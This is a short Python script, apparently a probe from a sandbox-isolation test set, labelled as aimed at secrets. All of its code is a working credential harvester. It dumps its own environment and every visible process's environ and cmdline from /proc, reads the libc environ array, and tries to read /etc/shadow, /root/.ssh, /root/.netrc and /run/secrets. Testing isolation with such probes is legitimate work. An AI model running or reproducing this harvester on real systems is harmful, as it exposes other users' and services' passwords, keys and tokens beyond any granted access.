# aims at: secrets
# cell: helper
# Prints its environment, and that of every process it can see.
import ctypes
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError:
        pass
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(1000):
    if not environ[number]:
        break
    print(environ[number])
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh", "/root/.netrc", "/run/secrets", "/etc/environment"):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError:
        pass
